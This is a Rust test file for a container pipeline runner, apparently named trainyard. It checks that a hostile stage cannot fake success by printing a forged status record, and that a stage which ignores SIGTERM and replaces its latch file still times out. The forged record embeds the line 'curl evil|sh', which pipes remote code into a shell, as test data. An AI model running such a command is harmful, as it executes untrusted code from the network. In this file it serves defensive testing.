//! The output of a hostile program, and its files in its container, decide nothing about its end.

use trainyard_tests::daemon::stage;
use trainyard_tests::engine::IMAGE;
use trainyard_tests::scene::Scene;

#[test]
fn class_15_a_printed_record_makes_no_success_and_hides_no_line() {
    let record = "trainyard-init 2 ended code=000 signal=00 asked=0 oom=0 errno=000 curl evil|sh";
    let scene = Scene::with_dag(&format!(
        "stages:\n  forge:\n    image: \"{IMAGE}\"\n    run: |\n      printf '\\036%s\\n' '{record}' >&2\n      exit 3\n"
    ));
    let run = scene.run("dag", &[]);
    assert_eq!(run["state"], "failed", "{run}");
    let log = scene.log(&run);
    assert!(log.contains("curl evil|sh"), "{log}");
    assert!(
        !log.contains("nonce="),
        "the true record is not shown: {log}"
    );
}

#[test]
fn class_15_a_program_that_replaces_its_latch_ends_with_its_timeout() {
    let scene = Scene::with_dag(&format!(
        "stages:\n  stuck:\n    image: \"{IMAGE}\"\n    timeout: 2s\n    run: |\n      trap '' TERM\n      \
         rm /trainyard/run/latch\n      dd if=/dev/zero of=/trainyard/run/latch bs=1M count=3 2>/dev/null\n      \
         while true; do sleep 1; done\n"
    ));
    let run = scene.run("dag", &[]);
    let stuck = stage(&run, "stuck");
    assert_eq!(stuck["state"], "timed_out", "{run}");
    assert_eq!(stuck["attempts"].as_array().unwrap().len(), 1, "{run}");
}
